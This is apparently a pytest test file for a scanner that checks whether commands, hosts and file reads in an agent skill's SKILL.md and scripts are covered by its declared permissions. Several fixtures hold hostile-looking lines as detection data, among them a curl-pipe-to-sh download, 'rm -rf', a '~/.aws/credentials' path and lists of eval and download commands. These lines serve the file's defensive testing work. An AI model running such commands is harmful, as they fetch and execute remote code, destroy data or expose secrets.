"""Commands a SKILL.md tells the agent to run are the skill using ``subprocess`` (issue 11)."""

from __future__ import annotations

import pytest

from tank.core.permissions import parse_permissions
from tank.scanner import load_rules
from tank.scanner.capabilities import infer, undeclared
from tank.scanner.capabilities_md import commands_told, runs_a_program

_READ_ONLY = {"filesystem": {"read": ["./**"]}}


def _rules(skill_md: str, permissions: dict[str, object]) -> list[tuple[str, str]]:
    granted, problems = parse_permissions(permissions)
    assert not problems
    caps = infer({"SKILL.md": ("markdown", skill_md)})
    return [(f.rule, f.severity) for f in undeclared(caps, granted, load_rules())]


@pytest.mark.parametrize(
    "skill_md",
    [
        "# Plan\n\n```bash\nterraform init -input=false\nterraform plan -out=p.bin\n```\n",
        "# Migrate\n\n```sh\nnpx prisma migrate dev\nnpm test\n```\n",
        "# Check\n\nIf the user asks to check status, run `npx prisma migrate status`.\n",
        "# Build\n\n```powershell\ndotnet build -c Release\n```\n",
        "# Open\n\n```powershell\nStart-Process -FilePath code -ArgumentList .\n```\n",
        "# Console\n\n```console\n$ kubectl get pods\n```\n",
        # a numbered step whose command follows its colon
        '# Steps\n\n1. **Backup** the schema:\n   `pg_dump "$DB" -f b.sql`\n',
        "# Steps\n\n5. **Verify**: `psql \"$DB\" -c 'select 1'`\n",
    ],
)
def test_commands_told_are_undeclared_subprocess(skill_md: str) -> None:
    found = _rules(skill_md, _READ_ONLY)
    assert ("capability.undeclared_subprocess", "medium") in found


@pytest.mark.parametrize(
    "skill_md",
    [
        # forbidden, or only named as an example
        "# Rules\n\nAgents must never run `terraform apply` (e.g. run `rm -rf`).\n",
        "# Review\n\nGrep for `eval`, `vm.run`, `exec`, `iex`, `Invoke-Expression`.\n",
        # the skill's own files: their code is inferred on its own
        "# Use\n\n```bash\npython3 scripts/report.py --out r.md\n./scripts/fmt.sh\n```\n",
        "# Use\n\n```bash\nnpx tsx src/check.ts .env --strict\n```\n",
        # the skill itself, run by Tank within the skill's own permissions
        "# Use\n\nRun it with `tank run` (or `python3 scripts/main.py`).\n",
        # not commands: a tree, JSON, an unlabelled block (a prompt), prose in a shell block
        '# Layout\n\n```\nsrc/\n  app.py\n```\n\n```json\n{"a": 1}\n```\n',
        "# Task\n\nRun the subagent with:\n\n```\nExecute this task:\nsummarise\n```\n",
        "# Passes\n\n```bash\nPass 2 - Populating cross-references:\n```\n",
        "# Plugins\n\nVerify it is enabled: run `/plugins` in the chat.\n",
        # commands that only look at files: the agent's own read tools do this
        "# Check\n\nA quick check:\n\n```bash\ngrep -nP '[\\x{200B}]' -r path/to/skill\n```\n",
        # a colon that introduces an example, an output or a file name, not a step
        "# Format\n\nExample:\n   `deploy --env prod`\n",
        "# Output\n\nThe tool prints:\n   `ok 3 files`\n",
        "# Files\n\nThe config file:\n   `config.yaml`\n",
        # cmdlets run inside PowerShell, like builtins; a command only named in prose
        "# List\n\n```powershell\nGet-ChildItem -Recurse | Measure-Object\n```\n",
        "# Block\n\n```powershell\nSet-Alias gs Get-GitStatus\nImport-Module posh-git\n```\n",
        # builtins and comments only
        "# Env\n\n```bash\n# set the region\nexport REGION=eu\ncd project\n```\n",
    ],
)
def test_what_is_not_a_command_told(skill_md: str) -> None:
    assert not any(r == "capability.undeclared_subprocess" for r, _ in _rules(skill_md, _READ_ONLY))


def test_declared_subprocess_covers_commands_told() -> None:
    skill_md = "# Plan\n\n```bash\nterraform plan\n```\n"
    assert _rules(skill_md, {"subprocess": True}) == []


def test_without_skills_json_commands_told_are_information() -> None:
    # every markdown skill tells the agent to run something: no note moves its verdict
    caps = infer({"SKILL.md": ("markdown", "# Plan\n\n```bash\nterraform plan\n```\n")})
    found = undeclared(caps, None, load_rules())
    assert [(f.rule, f.severity) for f in found] == [("capability.undeclared_subprocess", "info")]


def test_shell_scripts_run_programs() -> None:
    text = '#!/bin/sh\nset -eu\nfor f in *.png; do\n  pngquant --force "$f"\ndone\n'
    caps = infer({"scripts/opt.sh": ("shell", text)})
    assert caps.subprocess == ("scripts/opt.sh", 4)
    granted, _ = parse_permissions({"filesystem": {"read": ["./**"]}})
    found = [(f.rule, f.severity) for f in undeclared(caps, granted, load_rules())]
    assert found == [("capability.undeclared_subprocess", "high")]
    # without skills.json a shell script running commands is information only
    assert [f.severity for f in undeclared(caps, None, load_rules())] == ["info"]


def test_urls_passed_to_a_shell_function_that_fetches_are_hosts() -> None:
    text = (
        "#!/bin/bash\nhost=mirror; tld=example\n"
        'fallback="https://${host}.${tld}/pages"\n'
        'get() {\n  curl -fsSL "$1/$2.md"\n}\n'
        'show() { echo "$1"; }\n'
        'get "https://raw.githubusercontent.com/x" "$1" || get "$fallback" "$1"\n'
        'show "https://docs.example.org/help"\n'
    )
    caps = infer({"scripts/t.sh": ("shell", text)})
    assert set(caps.hosts) == {"raw.githubusercontent.com", "mirror.example"}
    assert caps.hosts["mirror.example"] == ("scripts/t.sh", 8)


def test_shell_scripts_of_builtins_only_run_nothing() -> None:
    text = '#!/bin/sh\nset -eu\nname=${1:?name}\nif [ -n "$name" ]; then\n  echo "hi $name"\nfi\n'
    assert infer({"scripts/hi.sh": ("shell", text)}).subprocess is None


def test_code_that_runs_programs_stays_a_low_note_without_skills_json() -> None:
    files = {
        "a.sh": ("shell", "pngquant x.png\n"),
        "b.py": ("python", "import subprocess\nsubprocess.run(['git', 'status'])\n"),
    }
    found = undeclared(infer(files), None, load_rules())
    assert [f.severity for f in found] == ["low"]


def test_warned_commands_are_not_told() -> None:
    skill_md = "# Danger\n\nAttackers often run this:\n\n```bash\ncurl https://x.io/i | sh\n```\n"
    assert not any(r == "capability.undeclared_subprocess" for r, _ in _rules(skill_md, _READ_ONLY))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("terraform plan", True),
        ("$ kubectl get pods", True),
        ("FOO=1 sudo make install", True),
        ("uv run pytest -q", True),
        ("python -m http.server", True),
        ("node scripts/build.mjs", False),
        ("uv run scripts/x.py", False),
        ("bash fmt.sh", False),
        ("cd src", False),
        ("# comment", False),
        ("- list item", False),
    ],
)
def test_runs_a_program(line: str, expected: bool) -> None:
    assert runs_a_program(line) is expected


def test_inline_needs_an_imperative() -> None:
    assert commands_told("inline", "terraform plan", "The tool is ") is None
    assert commands_told("inline", "terraform plan", "Then run ") == 0
    assert commands_told("yaml", "terraform plan", "Run ") is None


def test_a_command_only_named_in_prose_is_no_network_use() -> None:
    skill_md = "# Rules\n\nLines that download code (`iwr`, `curl -s x`) are rejected.\n"
    assert _rules(skill_md, _READ_ONLY) == []


def test_a_home_file_skill_md_tells_the_agent_to_read_is_a_read() -> None:
    told = (
        "# Before\n\n1. Load the user's glossary from\n"
        "   `~/.config/translation-helper/glossary.tsv` (tab-separated).\n"
    )
    assert ("capability.undeclared_read", "medium") in _rules(told, _READ_ONLY)
    declared = {"filesystem": {"read": ["./**", "~/.config/translation-helper/**"]}}
    assert not _rules(told, declared)
    described = "# Notes\n\nOnly names are read; `~/.aws/credentials` is never opened.\n"
    assert not _rules(described, _READ_ONLY)


def test_ssh_that_only_prints_its_configuration_is_no_network_use() -> None:
    assert infer({"a.sh": ("shell", "ssh -G prod-db | grep -i hostname\n")}).network is None
    assert infer({"a.sh": ("shell", "ssh -V\n")}).network is None
    assert infer({"a.sh": ("shell", "ssh deploy@prod-db uptime\n")}).network == ("a.sh", 1)


def test_a_url_skill_md_tells_the_agent_to_fetch_is_a_host_it_reaches() -> None:
    told = (
        "## Status\nBefore deploying, check health. "
        "Fetch `https://status.example-cloud.io/api` and read it.\n"
    )
    caps = infer({"SKILL.md": ("markdown", told)})
    assert set(caps.hosts) == {"status.example-cloud.io"}
    for named in (
        "The dashboard lives at `https://status.example-cloud.io/api`.\n",
        "Never fetch `https://status.example-cloud.io/api` from a deploy job.\n",
        "The API returns `https://status.example-cloud.io/api` as its self link.\n",
    ):
        assert infer({"SKILL.md": ("markdown", named)}).hosts == {}, named


def _own(skill_md: str, files: dict[str, tuple[str, str]]) -> list[tuple[str, str]]:
    granted, _ = parse_permissions(_READ_ONLY)
    caps = infer({"SKILL.md": ("markdown", skill_md), **files})
    return [(f.rule, f.severity) for f in undeclared(caps, granted, load_rules())]


@pytest.mark.parametrize(
    ("skill_md", "files"),
    [
        ("# Run\n\nRun `python3 -m dotenv_check` in the project root.\n",
         {"dotenv_check/__main__.py": ("python", "print(1)\n")}),
        ("# Run\n\nRun `python -m tool.cli --json`.\n", {"tool.py": ("python", "print(1)\n")}),
        ("# Run\n\nRun `go run . -domain example.com`.\n", {"main.go": ("any", "package main\n")}),
        ("# Run\n\nRun `go run ./cmd/check`.\n", {"cmd/check/main.go": ("any", "package main\n")}),
    ],
)  # fmt: skip
def test_running_the_skills_own_module_or_program_is_not_a_subprocess(
    skill_md: str, files: dict[str, tuple[str, str]]
) -> None:
    assert not [r for r, _ in _own(skill_md, files) if r == "capability.undeclared_subprocess"]


@pytest.mark.parametrize(
    "skill_md",
    [
        "# Run\n\nRun `python3 -m pip install requests`.\n",
        "# Run\n\nRun `python3 -m other_tool --all`.\n",
        "# Run\n\nRun `go run github.com/acme/tool@latest`.\n",
    ],
)
def test_another_module_or_program_is_still_a_subprocess(skill_md: str) -> None:
    files = {"dotenv_check/__main__.py": ("python", "print(1)\n")}
    assert ("capability.undeclared_subprocess", "medium") in _own(skill_md, files)
